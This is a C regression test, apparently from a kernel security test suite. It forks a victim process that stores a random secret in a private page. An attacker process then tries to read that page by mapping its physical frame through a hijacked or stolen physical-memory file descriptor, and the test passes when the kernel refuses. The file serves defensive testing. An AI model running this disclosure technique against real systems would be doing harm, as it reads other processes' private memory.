// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: read another process's memory through the physical-memory fd.
 *
 * A victim process fills one of its private pages with a random secret
 * and reports the page's frame. An attacker process, which no page
 * table entry grants that frame, gets the physical-memory fd in its
 * stub (hijack_fd.h: held by the patched stub, stolen on the base
 * kernel), maps the frame over a page of its own from the stub code
 * page and reads it.
 *
 * Succeeded: the attacker read the secret. Refused: the mmap failed
 * with EPERM, or the attacker was killed while attempting it.
 *
 * Pass (the patched kernel's behaviour): refused, the kernel counted
 * the refused mmap (stub_stats mmap_denied grew across that step), and
 * afterwards the guest still forks and execs a program.
 */
#define _GNU_SOURCE
#include <sys/random.h>
#include "tap.h"
#include "hijack_fd.h"
#include "exec_helpers.h"

#define SECRET_BYTES 32

struct victim_report {
	unsigned long pfn;
	unsigned char secret[SECRET_BYTES];
	int error;
};

struct attack_ctx {
	struct victim_report victim;
};

/* Victim: publish a secret page's frame, then hold it until told. */
static int victim_main(int to_test, int from_test)
{
	struct victim_report rep = { 0 };
	unsigned char *page;
	size_t i;
	char c;

	page = mmap(NULL, HIJACK_PAGE_SIZE, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED ||
	    getrandom(rep.secret, sizeof(rep.secret), 0) !=
	    (ssize_t)sizeof(rep.secret)) {
		rep.error = errno;
	} else {
		for (i = 0; i < HIJACK_PAGE_SIZE; i++)
			page[i] = rep.secret[i % SECRET_BYTES];
		rep.error = -hijack_page_frame(page, &rep.pfn);
	}
	if (write(to_test, &rep, sizeof(rep)) != (ssize_t)sizeof(rep))
		return 1;
	/* Keep the page (and its frame) until the attack is over. */
	if (read(from_test, &c, 1) < 0)
		return 1;
	return memcmp(page, rep.secret, SECRET_BYTES) ? 2 : 0;
}

static int attack(void *arg, int report)
{
	const struct attack_ctx *ctx = arg;
	unsigned long pfn = ctx->victim.pfn;
	struct stub_hijack h;
	struct hijack_fd f;
	unsigned char *target;
	long res;

	attack_stage(report, 0, "finding the stub");
	if (hijack_init(&h)) {
		attack_verdict(report, ATTACK_INCONCLUSIVE, "stub not found");
		return 0;
	}
	if (attack_get_fd(report, &h, &f))
		return 0;

	/* A page of our own, present, to map the victim's frame over. */
	target = mmap(NULL, HIJACK_PAGE_SIZE, PROT_READ | PROT_WRITE,
		      MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (target == MAP_FAILED) {
		attack_verdict(report, ATTACK_INCONCLUSIVE, "mmap: %s",
			       strerror(errno));
		return 0;
	}
	memset(target, 0x11, HIJACK_PAGE_SIZE);

	attack_stage(report, 1, "mapping the victim's frame %#lx", pfn);
	res = hijack_mmap(&h, (unsigned long)target, HIJACK_PAGE_SIZE,
			  PROT_READ, f.fd, pfn * HIJACK_PAGE_SIZE);
	if (res == -EPERM) {
		attack_verdict(report, ATTACK_REFUSED,
			       "mmap of the victim's frame %#lx through fd "
			       "%d: EPERM", pfn, f.fd);
		return 0;
	}
	if (res != (long)target) {
		attack_verdict(report, ATTACK_INCONCLUSIVE,
			       "mmap of the victim's frame %#lx through fd "
			       "%d returned %ld", pfn, f.fd, res);
		return 0;
	}

	attack_stage(report, 0, "reading the victim's frame");
	if (memcmp(target, ctx->victim.secret, SECRET_BYTES) == 0)
		attack_verdict(report, ATTACK_SUCCEEDED,
			       "read the victim's %d-byte secret from frame "
			       "%#lx (fd %d, %s)", SECRET_BYTES, pfn, f.fd,
			       f.origin == HIJACK_FD_HELD ? "held" : "stolen");
	else
		attack_verdict(report, ATTACK_INCONCLUSIVE,
			       "frame %#lx mapped, but it does not hold the "
			       "secret (first byte %#x)", pfn, target[0]);
	return 0;
}

int main(int argc, char **argv)
{
	struct attack_outcome out = { .verdict = ATTACK_INCONCLUSIVE };
	int to_test[2], from_test[2], status;
	struct attack_ctx ctx = { 0 };
	char helper[PATH_MAX], why[128] = "";
	pid_t victim;

	(void)argc;
	tap_plan(3);
	helper_path(argv[0], helper, sizeof(helper));

	if (pipe(to_test) || pipe(from_test)) {
		snprintf(out.detail, sizeof(out.detail), "pipe: %s",
			 strerror(errno));
		goto report;
	}
	fflush(stdout);
	victim = fork();
	if (victim < 0) {
		snprintf(out.detail, sizeof(out.detail), "fork: %s",
			 strerror(errno));
		goto report;
	}
	if (victim == 0) {
		close(to_test[0]);
		close(from_test[1]);
		_exit(victim_main(to_test[1], from_test[0]));
	}
	close(to_test[1]);
	close(from_test[0]);

	if (read(to_test[0], &ctx.victim, sizeof(ctx.victim)) !=
	    (ssize_t)sizeof(ctx.victim) || ctx.victim.error) {
		snprintf(out.detail, sizeof(out.detail),
			 "victim could not publish its frame: %s",
			 strerror(ctx.victim.error ? ctx.victim.error : EIO));
	} else {
		tap_diag("victim %d holds its secret in frame %#lx", victim,
			 ctx.victim.pfn);
		attack_run_retrying(attack, &ctx, &out);
	}

	close(from_test[1]);	/* the victim may go */
	close(to_test[0]);
	if (waitpid(victim, &status, 0) == victim &&
	    !(WIFEXITED(status) && WEXITSTATUS(status) == 0))
		tap_diag("victim ended with status %#x", status);

report:
	attack_print("disclosure", &out);
	tap_result(out.verdict == ATTACK_REFUSED,
		   "reading another process's frame is refused (%s)",
		   attack_verdict_names[out.verdict]);
	attack_expect_counted(&out, "mmap_denied",
			      "the refused mmap of the victim's frame");
	tap_result(run_once(helper, why, sizeof(why)) == 0,
		   "fork and exec still work after the attack%s%s",
		   why[0] ? ": " : "", why[0] ? why : "");
	return tap_exit_status();
}
